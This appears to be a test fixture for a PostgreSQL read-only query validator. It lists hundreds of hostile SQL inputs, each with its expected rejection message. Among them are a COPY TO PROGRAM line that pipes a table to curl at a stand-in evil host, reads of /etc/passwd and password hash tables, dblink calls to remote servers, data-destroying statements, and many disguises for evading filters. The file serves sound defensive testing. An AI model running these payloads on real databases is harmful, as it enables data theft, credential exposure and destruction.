## Attacks a penetration tester would try. Every one must be REJECTED (QUERY_BLOCKED) by the
## corpus policy (defaults plus tables.deny: *.secrets, pg_catalog.pg_authid, pg_catalog.pg_shadow).
## Format: records separated by a line holding only '----'; lines starting with '##' are ignored,
## except '## expect: TEXT' which the rejection detail must contain (case-insensitive).
##
## --- plain write and DDL statements
## expect: blocked keyword: INSERT
INSERT INTO users (email) VALUES ('x@example.com')
----
## expect: blocked keyword: UPDATE
UPDATE users SET email = 'x' WHERE id = 1
----
## expect: blocked keyword: DELETE
DELETE FROM users
----
## expect: blocked keyword: MERGE
MERGE INTO users u USING staging s ON u.id = s.id WHEN MATCHED THEN DELETE
----
## expect: blocked keyword: DROP
DROP TABLE users
----
## expect: blocked keyword: ALTER
ALTER TABLE users ADD COLUMN pwned boolean
----
## expect: blocked keyword: CREATE
CREATE TABLE stolen AS SELECT * FROM users
----
## expect: blocked keyword: TRUNCATE
TRUNCATE users CASCADE
----
## expect: blocked keyword: COPY
COPY users TO '/tmp/users.csv'
----
## expect: blocked keyword: COPY
COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- https://evil.example'
----
## expect: blocked keyword: COPY
COPY users FROM PROGRAM 'id'
----
## expect: blocked keyword: CALL
CALL cleanup_users()
----
## expect: blocked keyword: DO
DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$
----
## expect: blocked keyword: SET
SET ROLE postgres
----
## expect: blocked keyword: SET
SET SESSION AUTHORIZATION postgres
----
## expect: blocked keyword: SET
SET transaction_read_only = off
----
## expect: blocked keyword: RESET
RESET ALL
----
## expect: blocked keyword: GRANT
GRANT ALL ON users TO PUBLIC
----
## expect: blocked keyword: REVOKE
REVOKE SELECT ON users FROM auditor
----
## expect: blocked keyword: LOCK
LOCK TABLE users IN ACCESS EXCLUSIVE MODE
----
## expect: blocked keyword: VACUUM
VACUUM FULL users
----
## expect: blocked keyword: ANALYZE
ANALYZE users
----
## expect: blocked keyword: CLUSTER
CLUSTER users USING users_pkey
----
## expect: blocked keyword: REINDEX
REINDEX TABLE users
----
## expect: blocked keyword: PREPARE
PREPARE p AS DELETE FROM users
----
## expect: blocked keyword: EXECUTE
EXECUTE p
----
## expect: blocked keyword: DEALLOCATE
DEALLOCATE ALL
----
## expect: blocked keyword: BEGIN
BEGIN
----
## expect: blocked keyword: START
START TRANSACTION READ WRITE
----
## expect: blocked keyword: COMMIT
COMMIT
----
## expect: blocked keyword: ROLLBACK
ROLLBACK
----
## expect: blocked keyword: SAVEPOINT
SAVEPOINT s1
----
## expect: blocked keyword: END
END
----
## expect: blocked keyword: ABORT
ABORT
----
## expect: blocked keyword: LISTEN
LISTEN events
----
## expect: blocked keyword: NOTIFY
NOTIFY events, 'payload'
----
## expect: blocked keyword: DISCARD
DISCARD ALL
----
## expect: blocked keyword: LOAD
LOAD '/tmp/evil.so'
----
## expect: blocked keyword: CHECKPOINT
CHECKPOINT
----
## expect: blocked keyword: REFRESH
REFRESH MATERIALIZED VIEW mv
----
## expect: blocked keyword: COMMENT
COMMENT ON TABLE users IS 'pwned'
----
## expect: blocked keyword: SECURITY
SECURITY LABEL ON TABLE users IS 'x'
----
## expect: blocked keyword: IMPORT
IMPORT FOREIGN SCHEMA public FROM SERVER evil INTO public
----
## expect: blocked keyword: REASSIGN
REASSIGN OWNED BY app TO attacker
----
## expect: blocked keyword: DECLARE
DECLARE c CURSOR FOR SELECT * FROM users
----
## expect: blocked keyword: FETCH
FETCH ALL FROM c
----
## expect: blocked keyword: SHOW
SHOW ALL
----
## expect: blocked keyword: EXPLAIN
EXPLAIN ANALYZE DELETE FROM users
----
## expect: blocked keyword: EXPLAIN
EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET email = NULL
----
## expect: blocked keyword: EXPLAIN
EXPLAIN ANALYSE SELECT pg_sleep(10)
----
## expect: blocked keyword: ALTER
ALTER SYSTEM SET log_statement = 'none'
----
## expect: blocked keyword: CREATE
CREATE EXTENSION dblink
----
## expect: blocked keyword: CREATE
CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM users RETURNING 1'
----
## expect: blocked keyword: CREATE
CREATE TEMP TABLE t AS SELECT 1
----
## expect: blocked keyword: DROP
DROP OWNED BY app
----
## --- case, whitespace and comment disguises
## expect: blocked keyword: DELETE
delete from users
----
## expect: blocked keyword: DELETE
DeLeTe FrOm users
----
## expect: blocked keyword: DELETE

	  DELETE FROM users
----
## expect: blocked keyword: DELETE
/* SELECT */ DELETE FROM users
----
## expect: blocked keyword: DELETE
-- SELECT 1
DELETE FROM users
----
## expect: blocked keyword: DROP
/* nested /* comment */ still comment */ DROP TABLE users
----
## expect: could not be parsed
(DELETE FROM users RETURNING *)
----
## expect: blocked keyword: UPDATE
UPDATE/**/users/**/SET/**/email='x'
----
## --- several statements and stray semicolons
## expect: multiple statements
SELECT 1; DELETE FROM users
----
## expect: multiple statements
SELECT 1;
----
## expect: multiple statements
SELECT 1 ; -- trailing
----
## expect: multiple statements
SELECT * FROM users WHERE id = 1; COMMIT; DROP TABLE users
----
## expect: multiple statements
SELECT 1;
COMMIT
----
## expect: multiple statements
COMMIT; DROP TABLE users
----
## expect: multiple statements
SELECT ';'; DELETE FROM users
----
## expect: multiple statements
SELECT $$;$$; DELETE FROM users
----
## expect: multiple statements
SELECT 1/*;*/; DROP TABLE users
----
## expect: multiple statements
SELECT 1 -- x
; DROP TABLE users
----
## expect: multiple statements
SELECT 1 /* a /* b */ c */ ; DROP TABLE users
----
## expect: multiple statements
SELECT "a;b" FROM t; DELETE FROM t
----
## expect: multiple statements
SELECT * FROM users WHERE name = '' OR 1=1; --'
----
## expect: multiple statements
SELECT 1 # 2 ; DROP TABLE users
----
## expect: multiple statements
TABLE users; DROP TABLE users
----
## expect: multiple statements
VALUES (1); DELETE FROM users
----
## expect: multiple statements
SELECT E'\''; DELETE FROM users; --'
----
## expect: multiple statements
SELECT 1;;
----
## --- literal/comment differential tricks: PostgreSQL sees code where a naive parser sees text
## a quote after a backslash in a standard string: the literal ends elsewhere when the server's
## standard_conforming_strings is off, so it is rejected whatever the setting
## expect: standard_conforming_strings
SELECT '\' , pg_sleep(10) --'
----
## expect: standard_conforming_strings
SELECT '\' || ' , pg_sleep(10) --'
----
## expect: standard_conforming_strings
SELECT N'\' || ' , pg_sleep(10) --'
----
## string continuation: after E'...' and a newline, PostgreSQL reads the next '...' as part of
## the E string (default settings): the escaped quote ends it and pg_read_file is a call
## expect: standard_conforming_strings
SELECT E'a'
'\'' , pg_read_file($p$/etc/passwd$p$) --'
----
## expect: standard_conforming_strings
SELECT E'a' -- a comment may sit in the gap
'\'' , pg_sleep(10) --'
----
## expect: pg_sleep
SELECT E'\'' , pg_sleep(10) --'
----
## expect: pg_sleep
SELECT $a$ $b$ $a$, pg_sleep(1) -- $b$
----
## expect: pg_sleep
SELECT $$ ' $$, pg_sleep(1) -- '
----
## expect: pg_read_file
SELECT 'x' /* ' */, pg_read_file('/etc/passwd') -- */
----
## expect: pg_sleep
SELECT "a'b", pg_sleep(1) FROM t -- '
----
## expect: not valid PostgreSQL
SELECT {fn pg_sleep(1)}
----
## expect: not valid PostgreSQL
{call pg_sleep(1)}
----
## expect: not valid PostgreSQL
SELECT `pg_sleep`(1)
----
## expect: not valid PostgreSQL
SELECT 1 \g
----
## expect: unterminated
SELECT 'unterminated
----
## expect: unterminated
SELECT 1 /* unterminated comment
----
## expect: unterminated
SELECT $tag$ never closed
----
## expect: UESCAPE
SELECT U&"!0070g_sleep" UESCAPE '!'(1)
----
## --- sleeping, with every disguise of the name
## expect: pg_sleep
SELECT pg_sleep(10)
----
## expect: pg_sleep
SELECT PG_SLEEP(10)
----
## expect: pg_sleep
SELECT "pg_sleep"(10)
----
## expect: pg_sleep
SELECT "PG_SLEEP"(10)
----
## expect: pg_sleep
SELECT pg_catalog.pg_sleep(10)
----
## expect: pg_sleep
SELECT PG_CATALOG.PG_SLEEP(10)
----
## expect: pg_sleep
SELECT "pg_catalog"."pg_sleep"(10)
----
## expect: pg_sleep
SELECT public.pg_sleep(10)
----
## expect: pg_sleep
SELECT U&"\0070\0067_sleep"(10)
----
## expect: pg_sleep
SELECT U&"pg\005fsleep"(10)
----
## expect: pg_sleep
SELECT pg_catalog.U&"pg_sl\0065ep"(10)
----
## expect: pg_sleep
SELECT pg_sleep /* gap */ (10)
----
## expect: pg_sleep
SELECT pg_sleep
(10)
----
## expect: pg_sleep_for
SELECT pg_sleep_for('5 minutes')
----
## expect: pg_sleep_until
SELECT pg_sleep_until('tomorrow 03:00')
----
## expect: pg_sleep
SELECT * FROM pg_sleep(5)
----
## expect: pg_sleep
SELECT * FROM pg_catalog.pg_sleep(5) AS s
----
## expect: pg_sleep
SELECT id FROM users WHERE pg_sleep(1) IS NULL
----
## expect: pg_sleep
SELECT id FROM users ORDER BY pg_sleep(1)
----
## expect: pg_sleep
SELECT count(*) FROM users GROUP BY pg_sleep(1)
----
## expect: pg_sleep
SELECT count(*) FROM users HAVING count(pg_sleep(1)) > 0
----
## expect: pg_sleep
SELECT CASE WHEN id = 1 THEN pg_sleep(5) END FROM users
----
## expect: pg_sleep
SELECT coalesce(NULL, pg_sleep(1)::text)
----
## expect: pg_sleep
SELECT (SELECT pg_sleep(1))
----
## expect: pg_sleep
SELECT * FROM users WHERE id IN (SELECT 1 FROM pg_sleep(1))
----
## expect: pg_sleep
SELECT * FROM users WHERE EXISTS (SELECT pg_sleep(1))
----
## expect: pg_sleep
SELECT * FROM users u JOIN orders o ON o.user_id = u.id AND pg_sleep(1) IS NULL
----
## expect: pg_sleep
SELECT * FROM users u, LATERAL (SELECT pg_sleep(1)) s
----
## expect: pg_sleep
WITH slow AS (SELECT pg_sleep(5)) SELECT * FROM slow
----
## expect: pg_sleep
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r, pg_sleep(0.1) WHERE n < 100) SELECT * FROM r
----
## expect: pg_sleep
SELECT NULL UNION ALL SELECT pg_sleep(1)::text
----
## expect: pg_sleep
VALUES (pg_sleep(1))
----
## expect: pg_sleep
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM users
----
## expect: pg_sleep
SELECT sum(1) OVER (ORDER BY pg_sleep(1)) FROM users
----
## expect: pg_sleep
SELECT row_number() OVER (PARTITION BY pg_sleep(1)) FROM users
----
## expect: pg_sleep
SELECT array_agg(pg_sleep(1)) FROM users
----
## expect: pg_sleep
SELECT ARRAY[pg_sleep(1)]
----
## expect: could not be parsed
SELECT id FROM users LIMIT length(pg_sleep(1)::text)
----
## expect: pg_sleep
SELECT id FROM users OFFSET length(pg_sleep(1)::text)
----
## expect: pg_sleep
SELECT CAST(pg_sleep(1) AS text)
----
## expect: pg_sleep
SELECT lower(upper(trim(pg_sleep(1)::text)))
----
## expect: pg_sleep
SELECT * FROM generate_series(1, 10) g WHERE g > length(pg_sleep(0.5)::text)
----
## expect: pg_sleep
SELECT 1 WHERE 1 = ANY (SELECT 1 FROM pg_sleep(1))
----
## expect: pg_sleep
SELECT jsonb_build_object('a', pg_sleep(1))
----
## expect: pg_sleep
SELECT string_agg(x, ',' ORDER BY pg_sleep(1)::text) FROM (VALUES ('a')) v(x)
----
## expect: pg_sleep
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY length(pg_sleep(1)::text)) FROM users
----
## expect: pg_sleep
SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT pg_sleep(1)) a) b) c
----
## --- file access
## expect: pg_read_file
SELECT pg_read_file('/etc/passwd')
----
## expect: pg_read_file
SELECT pg_read_file('/etc/passwd', 0, 100000)
----
## expect: pg_read_file
SELECT pg_read_file(setting) FROM pg_settings WHERE name = 'hba_file'
----
## expect: pg_read_binary_file
SELECT pg_read_binary_file('/var/lib/postgresql/data/global/pg_control')
----
## expect: pg_write_file
SELECT pg_write_file('/tmp/x', 'pwned', false)
----
## expect: pg_ls_dir
SELECT pg_ls_dir('.')
----
## expect: pg_ls_dir
SELECT * FROM pg_ls_dir('/etc') AS f
----
## expect: pg_stat_file
SELECT pg_stat_file('postgresql.conf')
----
## expect: pg_ls_logdir
SELECT * FROM pg_ls_logdir()
----
## expect: pg_ls_waldir
SELECT * FROM pg_ls_waldir()
----
## expect: pg_current_logfile
SELECT pg_current_logfile()
----
## expect: pg_file_write
SELECT pg_file_write('/tmp/evil', 'x', true)
----
## expect: pg_file_unlink
SELECT pg_file_unlink('postgresql.conf')
----
## expect: pg_read_file
SELECT "PG_READ_FILE"('/etc/passwd')
----
## expect: pg_read_file
SELECT U&"pg_read_fil\0065"('/etc/passwd')
----
## --- large objects
## expect: lo_import
SELECT lo_import('/etc/passwd')
----
## expect: lo_export
SELECT lo_export(16384, '/tmp/evil.so')
----
## expect: lo_get
SELECT lo_get(16384)
----
## expect: lo_from_bytea
SELECT lo_from_bytea(0, '\x41')
----
## expect: lo_put
SELECT lo_put(16384, 0, '\x41')
----
## expect: lo_unlink
SELECT lo_unlink(16384)
----
## expect: lo_create
SELECT lo_create(0)
----
## expect: lowrite
SELECT lowrite(lo_open(16384, 131072), 'x')
----
## expect: loread
SELECT loread(1, 100)
----
## expect: lo_import
SELECT pg_catalog.lo_import('/etc/shadow', 31337)
----
## --- dynamic SQL: query text run out of the validator's sight
## expect: query_to_xml
SELECT query_to_xml('DELETE FROM users RETURNING 1', true, false, '')
----
## expect: query_to_xml
SELECT query_to_xml(format('delete from %I', 'users'), true, true, '')
----
## expect: query_to_xml
SELECT Query_To_Xml('select pg_sleep(10)', true, true, '')
----
## expect: query_to_xml_and_xmlschema
SELECT query_to_xml_and_xmlschema('select * from secrets', true, true, '')
----
## expect: query_to_xmlschema
SELECT query_to_xmlschema('select 1', true, true, '')
----
## expect: query_to_json
SELECT query_to_json('select 1')
----
## expect: table_to_xml
SELECT table_to_xml('secrets', true, true, '')
----
## expect: schema_to_xml
SELECT schema_to_xml('public', true, true, '')
----
## expect: database_to_xml
SELECT database_to_xml(true, true, '')
----
## expect: cursor_to_xml
SELECT cursor_to_xml('c', 100, true, true, '')
----
## expect: ts_stat
SELECT * FROM ts_stat('SELECT to_tsvector(body) FROM secrets')
----
## expect: ts_rewrite
SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')
----
## expect: xpath_table
SELECT * FROM xpath_table('id', 'doc', 'secrets', '/a', 'true') AS t(id int, a text)
----
## expect: crosstab
SELECT * FROM crosstab('select * from secrets') AS ct(a text, b text)
----
## expect: connectby
SELECT * FROM connectby('secrets', 'id', 'parent', '1', 0) AS t(id text, parent text, level int)
----
## expect: could not be parsed
SELECT * FROM users WHERE xmlexists('/a' PASSING query_to_xml('delete from users', true, true, ''))
----
## expect: query_to_xml
WITH q AS (SELECT query_to_xml('truncate users', true, true, '') AS x) SELECT * FROM q
----
## --- signalling and administration
## expect: pg_terminate_backend
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()
----
## expect: pg_cancel_backend
SELECT pg_cancel_backend(12345)
----
## expect: pg_reload_conf
SELECT pg_reload_conf()
----
## expect: pg_rotate_logfile
SELECT pg_rotate_logfile()
----
## expect: pg_switch_wal
SELECT pg_switch_wal()
----
## expect: pg_create_restore_point
SELECT pg_create_restore_point('x')
----
## expect: pg_promote
SELECT pg_promote()
----
## expect: pg_backup_start
SELECT pg_backup_start('evil')
----
## expect: pg_stat_reset
SELECT pg_stat_reset()
----
## expect: pg_stat_statements_reset
SELECT pg_stat_statements_reset()
----
## expect: pg_create_logical_replication_slot
SELECT pg_create_logical_replication_slot('exfil', 'test_decoding')
----
## expect: pg_drop_replication_slot
SELECT pg_drop_replication_slot('main_slot')
----
## expect: pg_logical_slot_get_changes
SELECT * FROM pg_logical_slot_get_changes('exfil', NULL, NULL)
----
## expect: pg_replication_origin_create
SELECT pg_replication_origin_create('x')
----
## expect: pg_log_backend_memory_contexts
SELECT pg_log_backend_memory_contexts(pg_backend_pid())
----
## expect: binary_upgrade_set_next_pg_type_oid
SELECT binary_upgrade_set_next_pg_type_oid(1)
----
## expect: pg_wal_replay_pause
SELECT pg_wal_replay_pause()
----
## expect: pg_terminate_backend
SELECT "pg_catalog"."PG_TERMINATE_BACKEND"(1)
----
## --- advisory locks
## expect: pg_advisory_lock
SELECT pg_advisory_lock(1)
----
## expect: pg_try_advisory_lock
SELECT pg_try_advisory_lock(hashtext('x'))
----
## expect: pg_advisory_xact_lock
SELECT pg_advisory_xact_lock(42)
----
## expect: pg_advisory_unlock_all
SELECT pg_advisory_unlock_all()
----
## expect: pg_advisory_lock_shared
SELECT * FROM users WHERE pg_advisory_lock_shared(id) IS NOT NULL
----
## --- sequences
## expect: nextval
SELECT nextval('orders_id_seq')
----
## expect: nextval
SELECT NEXTVAL('orders_id_seq')
----
## expect: nextval
SELECT pg_catalog.nextval('orders_id_seq'::regclass)
----
## expect: setval
SELECT setval('orders_id_seq', 1)
----
## expect: setval
SELECT setval('orders_id_seq', (SELECT max(id) FROM orders) - 1000)
----
## --- settings
## expect: set_config
SELECT set_config('role', 'postgres', false)
----
## expect: set_config
SELECT set_config('statement_timeout', '0', false)
----
## expect: set_config
SELECT set_config('transaction_read_only', 'off', true)
----
## expect: set_config
SELECT pg_catalog.set_config('search_path', 'evil, public', false)
----
## expect: set_config
SELECT id FROM users WHERE set_config('default_transaction_read_only', 'off', false) IS NOT NULL
----
## expect: setseed
SELECT setseed(0.5)
----
## --- remote connections
## expect: dblink
SELECT * FROM dblink('host=evil.example dbname=x', 'SELECT 1') AS t(a int)
----
## expect: dblink_exec
SELECT dblink_exec('dbname=postgres', 'DROP TABLE users')
----
## expect: dblink_connect
SELECT dblink_connect('c', 'host=10.0.0.5 user=postgres')
----
## expect: dblink_send_query
SELECT dblink_send_query('c', 'DELETE FROM users')
----
## expect: dblink
SELECT public.dblink('dbname=postgres', 'select 1')
----
## expect: dblink_exec
SELECT "DBLINK_EXEC"('dbname=postgres', 'TRUNCATE users')
----
## --- functions that write even in a READ ONLY transaction
## expect: pg_notify
SELECT pg_notify('events', 'payload')
----
## expect: txid_current
SELECT txid_current()
----
## expect: pg_current_xact_id
SELECT pg_current_xact_id()
----
## expect: pg_logical_emit_message
SELECT pg_logical_emit_message(false, 'p', 'x')
----
## expect: brin_summarize_new_values
SELECT brin_summarize_new_values('orders_created_brin')
----
## expect: gin_clean_pending_list
SELECT gin_clean_pending_list('events_payload_gin')
----
## --- SELECT ... INTO creates a table
## expect: INTO
SELECT * INTO stolen FROM users
----
## expect: could not be parsed
SELECT id, email INTO TEMP stolen FROM users
----
## expect: could not be parsed
SELECT id INTO TEMPORARY TABLE t FROM users
----
## expect: INTO
WITH x AS (SELECT 1 AS a) SELECT * INTO t FROM x
----
## --- locking clauses
## expect: FOR UPDATE
SELECT * FROM users FOR UPDATE
----
## expect: FOR SHARE
SELECT * FROM users FOR SHARE
----
## expect: FOR NO KEY UPDATE
SELECT * FROM users FOR NO KEY UPDATE
----
## expect: FOR KEY SHARE
SELECT * FROM users FOR KEY SHARE
----
## expect: FOR UPDATE
SELECT * FROM users FOR UPDATE NOWAIT
----
## expect: FOR UPDATE
SELECT * FROM users FOR UPDATE SKIP LOCKED
----
## expect: FOR UPDATE
SELECT * FROM users u FOR UPDATE OF u
----
## expect: FOR UPDATE
SELECT * FROM (SELECT * FROM users FOR UPDATE) x
----
## expect: FOR UPDATE
WITH x AS (SELECT * FROM users FOR UPDATE) SELECT * FROM x
----
## expect: FOR UPDATE
SELECT * FROM users WHERE id IN (SELECT id FROM users FOR UPDATE)
----
## expect: FOR SHARE
SELECT * FROM users LIMIT 1 FOR SHARE
----
## --- data-modifying CTEs
## expect: DELETE
WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d
----
## expect: UPDATE
WITH u AS (UPDATE users SET email = 'x' RETURNING id) SELECT count(*) FROM u
----
## expect: INSERT
WITH i AS (INSERT INTO audit (msg) VALUES ('x') RETURNING id) SELECT * FROM i
----
## expect: DELETE
WITH a AS (SELECT 1), d AS (DELETE FROM users RETURNING 1) SELECT * FROM a
----
## expect: DELETE
WITH RECURSIVE d AS (DELETE FROM users RETURNING id) SELECT * FROM d
----
## expect: DELETE
WITH a AS (WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d) SELECT * FROM a
----
## expect: DELETE
SELECT * FROM (WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d) s
----
## expect: DELETE
with d as (delete from users returning *) select * from d
----
## expect: DELETE
/* analytics */ WITH d AS (DELETE FROM users RETURNING *) SELECT 1
----
## --- table deny rules (corpus policy denies *.secrets, pg_catalog.pg_authid, pg_catalog.pg_shadow)
## expect: table not permitted: secrets
SELECT * FROM secrets
----
## expect: table not permitted: secrets
SELECT * FROM "secrets"
----
## expect: table not permitted: secrets
SELECT * FROM SeCrEtS
----
## expect: table not permitted: public.secrets
SELECT * FROM public.secrets
----
## expect: table not permitted: public.secrets
SELECT * FROM "public"."secrets"
----
## expect: table not permitted: vault.secrets
SELECT * FROM vault.secrets
----
## expect: table not permitted: secrets
SELECT * FROM U&"\0073ecrets"
----
## expect: table not permitted: secrets
SELECT * FROM ONLY secrets
----
## expect: table not permitted: secrets
SELECT * FROM users WHERE id IN (SELECT user_id FROM secrets)
----
## expect: table not permitted: secrets
SELECT * FROM users WHERE EXISTS (SELECT 1 FROM secrets s WHERE s.user_id = users.id)
----
## expect: table not permitted: secrets
SELECT (SELECT value FROM secrets LIMIT 1) AS v
----
## expect: table not permitted: secrets
SELECT * FROM users u JOIN secrets s ON s.user_id = u.id
----
## expect: table not permitted: secrets
SELECT * FROM users u, LATERAL (SELECT * FROM secrets s WHERE s.user_id = u.id) x
----
## expect: table not permitted: secrets
SELECT id FROM users UNION SELECT id FROM secrets
----
## expect: table not permitted: secrets
TABLE secrets
----
## expect: table not permitted: secrets
WITH s AS (SELECT * FROM secrets) SELECT * FROM s
----
## expect: table not permitted: secrets
WITH a AS (SELECT * FROM secrets) SELECT 1
----
## expect: table not permitted: secrets
SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) x
----
## expect: table not permitted: secrets
WITH x AS (SELECT * FROM secrets), secrets AS (SELECT 1 AS a) SELECT * FROM x
----
## expect: table not permitted: secrets
SELECT * FROM (SELECT * FROM (SELECT * FROM secrets) a) b
----
## expect: table not permitted: secrets
SELECT count(*) FILTER (WHERE id IN (SELECT id FROM secrets)) FROM users
----
## expect: table not permitted: secrets
SELECT * FROM users ORDER BY (SELECT count(*) FROM secrets)
----
## expect: table not permitted: pg_catalog.pg_authid
SELECT rolname, rolpassword FROM pg_catalog.pg_authid
----
## expect: table not permitted: pg_authid
SELECT rolname, rolpassword FROM pg_authid
----
## expect: table not permitted: pg_catalog.pg_shadow
SELECT usename, passwd FROM pg_catalog.pg_shadow
----
## expect: table not permitted: pg_shadow
SELECT * FROM "PG_SHADOW" UNION SELECT * FROM pg_shadow
----
## --- mixed
## expect: pg_read_file
SELECT id, (SELECT pg_read_file('/etc/passwd')) FROM users WHERE id = 1
----
## expect: dblink_exec
SELECT * FROM users WHERE id = 1 OR dblink_exec('dbname=x', 'drop table users') = 'OK'
----
## expect: set_config
VALUES (set_config('role', 'admin', false))
----
## expect: pg_terminate_backend
WITH victims AS (SELECT pid FROM pg_stat_activity) SELECT pg_terminate_backend(pid) FROM victims
----
## expect: lo_import
SELECT * FROM users u JOIN LATERAL (SELECT lo_import('/etc/passwd') AS oid) l ON true
----
## expect: query_to_xml
SELECT 1 FROM users GROUP BY GROUPING SETS ((query_to_xml('delete from users', true, true, '')::text))
----
## expect: pg_sleep
SELECT id FROM users WINDOW w AS (ORDER BY pg_sleep(1))
----
## expect: pg_advisory_lock
SELECT 1 FROM users HAVING pg_advisory_lock(1) IS NOT NULL
----
## expect: nextval
SELECT nextval('s') FROM generate_series(1, 1000000)
----
## expect: pg_sleep
SELECT 1 UNION ALL (SELECT 2 INTERSECT SELECT length(pg_sleep(1)::text))
----
## expect: pg_sleep
SELECT * FROM users WHERE email = $1 AND pg_sleep($2) IS NULL
----
## --- hiding places: every clause that can hold an expression
## expect: could not be parsed
SELECT * FROM t TABLESAMPLE SYSTEM (length(pg_sleep(1)::text))
----
## expect: could not be parsed
SELECT * FROM t TABLESAMPLE SYSTEM (10) REPEATABLE (length(pg_sleep(1)::text))
----
## expect: pg_sleep
SELECT * FROM t FETCH FIRST (length(pg_sleep(1)::text)) ROWS ONLY
----
## expect: pg_sleep
SELECT * FROM t OFFSET (SELECT length(pg_sleep(1)::text)) ROWS
----
## expect: pg_sleep
SELECT now() AT TIME ZONE pg_sleep(1)::text
----
## expect: could not be parsed
SELECT x COLLATE "C" FROM t WHERE pg_sleep(1) IS NULL
----
## expect: pg_sleep
SELECT sum(a) OVER (ORDER BY b ROWS BETWEEN length(pg_sleep(1)::text) PRECEDING AND CURRENT ROW) FROM t
----
## expect: pg_sleep
SELECT CAST(pg_sleep(1) AS varchar(10))
----
## expect: pg_sleep
SELECT pg_sleep(1)::text::int
----
## expect: pg_sleep
SELECT EXTRACT(epoch FROM pg_sleep(1)::text::timestamp)
----
## expect: pg_sleep
SELECT * FROM t WHERE a IS DISTINCT FROM pg_sleep(1)::text
----
## expect: pg_sleep
SELECT * FROM t WHERE a BETWEEN pg_sleep(1)::text AND 'z'
----
## expect: pg_sleep
SELECT * FROM t WHERE a LIKE pg_sleep(1)::text ESCAPE '!'
----
## expect: pg_sleep
SELECT * FROM t WHERE a SIMILAR TO pg_sleep(1)::text
----
## expect: pg_sleep
SELECT * FROM t WHERE (a, b) OVERLAPS (pg_sleep(1)::text::date, now())
----
## expect: pg_sleep
SELECT substring(a FROM length(pg_sleep(1)::text)) FROM t
----
## expect: pg_sleep
SELECT trim(both pg_sleep(1)::text FROM a) FROM t
----
## expect: pg_sleep
SELECT position(pg_sleep(1)::text IN a) FROM t
----
## expect: pg_sleep
SELECT overlay(a placing pg_sleep(1)::text from 1) FROM t
----
## expect: pg_sleep
SELECT a[length(pg_sleep(1)::text)] FROM t
----
## expect: pg_sleep
SELECT ARRAY(SELECT pg_sleep(1))
----
## expect: pg_sleep
SELECT (SELECT 1 WHERE pg_sleep(1) IS NULL)
----
## expect: pg_sleep
SELECT x FROM t GROUP BY GROUPING SETS ((a), (length(pg_sleep(1)::text)))
----
## expect: pg_sleep
SELECT string_agg(a, pg_sleep(1)::text) FROM t
----
## expect: pg_sleep
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) OVER () FROM t
----
## expect: pg_sleep
SELECT json_object('a': pg_sleep(1)::text)
----
## expect: could not be parsed
SELECT xmlelement(name a, pg_sleep(1)::text)
----
## expect: pg_sleep
SELECT * FROM t WHERE a = ANY(ARRAY[pg_sleep(1)::text])
----
## expect: pg_sleep
SELECT * FROM t WHERE EXISTS (VALUES (pg_sleep(1)))
----
## expect: pg_sleep
SELECT interval '1 day' * length(pg_sleep(1)::text)
----
## expect: could not be parsed
SELECT a FROM t ORDER BY a USING <, pg_sleep(1)
----
## expect: pg_sleep
SELECT DISTINCT ON (pg_sleep(1)) a FROM t
----
## expect: pg_sleep
SELECT * FROM t JOIN u USING (id) WHERE pg_sleep(1) IS NULL
----
## expect: could not be parsed
SELECT * FROM ROWS FROM (pg_sleep(1))
----
## expect: pg_sleep
SELECT * FROM t WHERE a = (pg_sleep(1)).x
----
## expect: could not be parsed
SELECT (pg_sleep(1)).*
----
## expect: pg_sleep
SELECT row(pg_sleep(1))
----
## expect: pg_sleep
SELECT * FROM unnest(ARRAY[1]) WITH ORDINALITY AS u(x, n) WHERE pg_sleep(1) IS NULL
----
## expect: pg_sleep
SELECT * FROM generate_series(1, length(pg_sleep(1)::text))
----
## expect: pg_sleep
SELECT * FROM t WHERE a @@ to_tsquery(pg_sleep(1)::text)
----
## expect: pg_sleep
SELECT CASE pg_sleep(1)::text WHEN 'a' THEN 1 END
----
## expect: pg_sleep
SELECT a FROM t WINDOW w AS (PARTITION BY pg_sleep(1))
----
## expect: pg_sleep
SELECT a FROM t LIMIT ALL OFFSET length(pg_sleep(1)::text)
----
## expect: pg_sleep
SELECT percentile_cont(length(pg_sleep(1)::text)) WITHIN GROUP (ORDER BY a) FROM t
----
## expect: pg_sleep
SELECT a FROM t WHERE a = $1 OR pg_sleep(1) IS NULL
----
## expect: pg_hba_file_rules
SELECT * FROM pg_catalog.pg_hba_file_rules()
----
## expect: pg_show_all_file_settings
SELECT sourcefile, setting FROM pg_show_all_file_settings() WHERE name = 'ssl_key_file'
----
## JSON arrow operators: JsonExpression keeps its operands as Map.Entry pairs, which the walk skipped
## expect: pg_read_file
SELECT '{}'::jsonb -> pg_read_file('/etc/passwd')
----
## expect: pg_read_file
SELECT data ->> pg_read_file('/etc/passwd') FROM orders
----
## expect: set_config
SELECT '{}'::jsonb #> set_config('search_path', '{evil}', false)::text[]
----
## expect: pg_sleep
SELECT '{}'::jsonb #>> ARRAY[pg_sleep(10)::text]
----
## expect: table not permitted
SELECT data #> (SELECT array_agg(password) FROM pg_authid)::text[] FROM orders
----
## attribute notation: (expr).f and t.f are calls f(expr) / f(t) in PostgreSQL
## expect: pg_read_file
SELECT ('/etc/passwd'::text).pg_read_file
----
## expect: pg_sleep
SELECT (10::float8).pg_sleep
----
## expect: pg_terminate_backend
SELECT (pid).pg_terminate_backend FROM pg_stat_activity
----
## expect: pg_sleep
SELECT o.pg_sleep FROM orders o
----
